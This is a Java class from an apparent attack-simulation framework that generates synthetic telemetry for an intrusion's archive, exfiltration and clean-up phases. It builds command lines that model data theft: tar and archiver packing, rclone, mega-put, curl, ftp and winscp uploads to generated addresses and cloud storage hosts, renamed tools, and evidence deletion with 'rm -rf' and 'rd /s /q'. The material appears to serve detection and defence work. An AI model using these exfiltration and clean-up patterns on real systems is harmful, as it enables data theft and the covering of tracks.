package org.stagewatch.simulation.attack;

import java.util.List;
import org.jspecify.annotations.Nullable;
import org.stagewatch.simulation.chance.Dice;
import org.stagewatch.simulation.chance.Words;
import org.stagewatch.simulation.enterprise.Account;
import org.stagewatch.simulation.enterprise.Host;
import org.stagewatch.simulation.event.Program;
import org.stagewatch.simulation.event.Programs;
import org.stagewatch.simulation.event.RunningProcess;
import org.stagewatch.simulation.story.Archiver;
import org.stagewatch.simulation.story.Label;
import org.stagewatch.simulation.story.Scene;

/// What comes after the gathering: the archive, its way out, and the clean-up.
final class Finish {
    private final Scene scene;
    private final Attack attack;
    private final Host host;
    private final Dice dice;
    private final String archive;
    private final RunningProcess shell;

    private Finish(Scene scene, Attack attack) {
        this.scene = scene;
        this.attack = attack;
        this.host = attack.place().host();
        this.dice = scene.dice();
        Intrusion.phase(scene, attack, Label.Phase.ARCHIVE);
        if (host.role().isWindows()) {
            this.archive = attack.place().path() + "\\" + attack.tooling().archive();
            this.shell = Intrusion.shell(scene, attack, host);
        } else {
            this.archive = attack.place().path() + "." + attack.tooling().archive();
            this.shell = scene.running(
                    host, Programs.BASH, Account.linux(host, attack.account().name()), "-bash");
        }
    }

    static void play(Scene scene, Attack attack) {
        if (!attack.place().host().role().isManaged()) {
            return;
        }
        scene.minutes(1, attack.difficulty() == Difficulty.EASY ? 10 : 60);
        Finish finish = new Finish(scene, attack);
        finish.pack();
        scene.minutes(1, attack.difficulty() == Difficulty.EASY ? 10 : 60);
        Intrusion.phase(scene, attack, Label.Phase.EGRESS);
        finish.leave();
        if (attack.ending() == Attack.Ending.CLEANS_UP) {
            scene.minutes(2, 40);
            Intrusion.phase(scene, attack, Label.Phase.CLEAN_UP);
            finish.cleanUp();
        }
    }

    private void pack() {
        long size = dice.around(60_000_000, 0.8);
        if (!host.role().isWindows()) {
            RunningProcess tar = scene.start(
                    host,
                    shell,
                    Programs.TAR,
                    "tar " + dice.oneOf("czf ", "-cjf ", "-czpf ") + archive + " "
                            + attack.place().path());
            scene.seconds(3, 200).create(host, tar, archive, size);
            return;
        }
        Tooling tooling = attack.tooling();
        if (!archive.endsWith(tooling.archiver().ending()) && dice.chance(0.4)) {
            String first = archive.substring(0, archive.lastIndexOf('.'))
                    + tooling.archiver().ending();
            tooling.archiver()
                    .pack(
                            scene,
                            host,
                            shell,
                            tooling.archiveProgram(),
                            first,
                            attack.place().path(),
                            size,
                            tooling.password());
            scene.seconds(5, 100).rename(host, shell, first, archive, size);
            return;
        }
        tooling.archiver()
                .pack(
                        scene,
                        host,
                        shell,
                        tooling.archiveProgram(),
                        archive,
                        attack.place().path(),
                        size,
                        tooling.password());
        if (tooling.archiver() != Archiver.COMPRESS_ARCHIVE && dice.chance(0.3)) {
            int parts = dice.between(2, 5);
            for (int part = 2; part <= parts; part++) {
                scene.seconds(5, 60).create(host, shell, archive + ".00" + part, size);
            }
        }
    }

    private void leave() {
        String site = Words.site(dice);
        String address = Words.publicAddress(dice);
        switch (attack.egress()) {
            case NONE -> scene.seconds(1, 2);
            case RCLONE -> {
                Program program = tool(Programs.RCLONE);
                String remote = dice.text("abcdefghmnoprstu", 3) + dice.oneOf(":", "1:", ":up/");
                upload(
                        program,
                        program.fileName() + dice.oneOf(" copy ", " move ", " sync ")
                                + attack.place().path() + " " + remote + Words.shortName(dice)
                                + dice.oneOf("", " -q", " --ignore-existing"),
                        address,
                        443,
                        dice.oneOf(site, "api.pcloud.com", "g.api.mega.co.nz"));
            }
            case MEGA ->
                upload(
                        tool(Programs.MEGA),
                        "mega-put " + archive + " /" + Words.shortName(dice),
                        address,
                        443,
                        dice.oneOf("g.api.mega.co.nz", "gfs270n071.userstorage.mega.co.nz"));
            case CURL ->
                upload(
                        host.role().isWindows() ? tool(Programs.CURL_WINDOWS) : Programs.CURL,
                        "curl " + dice.oneOf("-T ", "-F file=@", "--upload-file ") + archive + " https://"
                                + dice.oneOf(site, address) + "/" + Words.shortName(dice),
                        address,
                        443,
                        site);
            case FTP ->
                upload(
                        Programs.FTP,
                        "ftp -s:" + attack.place().path() + "\\" + Words.shortName(dice) + ".txt " + address,
                        address,
                        21,
                        null);
            case WINSCP ->
                upload(
                        tool(Programs.WINSCP),
                        "winscp.com /command \"open sftp://" + Words.shortName(dice) + "@" + address
                                + "/ -hostkey=*\" \"put " + archive + "\" \"exit\"",
                        address,
                        22,
                        null);
            case WEB_DOWNLOAD -> {
                RunningProcess worker = scene.running(
                        host, Programs.IIS_WORKER, Account.NETWORK_SERVICE, "w3wp.exe -ap \"DefaultAppPool\"");
                for (int i = dice.between(3, 15); i > 0; i--) {
                    scene.seconds(5, 120).accept(host, worker, 443, address);
                }
            }
        }
    }

    private void upload(Program program, String commandLine, String address, int port, @Nullable String site) {
        RunningProcess uploader = scene.start(host, shell, program, commandLine);
        for (int i = dice.between(1, 8); i > 0; i--) {
            scene.seconds(1, 60).connect(host, uploader, address, port, site);
        }
    }

    /// A tool that came along lies where the intruder put it, under a name of its own when tools are renamed.
    private Program tool(Program program) {
        if (attack.style() != AttackStyle.RENAMED_TOOLS && dice.chance(0.4)) {
            return program;
        }
        String name = attack.style() == AttackStyle.RENAMED_TOOLS || dice.chance(0.2)
                ? Words.shortName(dice) + ".exe"
                : program.fileName();
        return program.at(dice.oneOf(attack.place().path(), "C:\\ProgramData", "C:\\Users\\Public") + "\\" + name);
    }

    private void cleanUp() {
        if (!host.role().isWindows()) {
            scene.start(
                    host,
                    shell,
                    Program.plain("/usr/bin/rm"),
                    "rm -rf " + attack.place().path() + " " + archive);
            scene.delete(host, shell, archive, 0);
            return;
        }
        RunningProcess eraser = scene.start(
                host,
                shell,
                Programs.CMD,
                dice.oneOf(
                        "cmd.exe /c rd /s /q \"" + attack.place().path() + "\"",
                        "cmd.exe /c del /f /q \"" + attack.place().path() + "\\*\""));
        for (String name : List.of(archive, attack.place().path() + "\\" + Words.document(dice))) {
            scene.delete(host, eraser, name, 0);
        }
        if (attack.style() == AttackStyle.MAPPED_DRIVES) {
            scene.start(host, shell, Programs.NET, "net use * /delete /y");
        }
    }
}
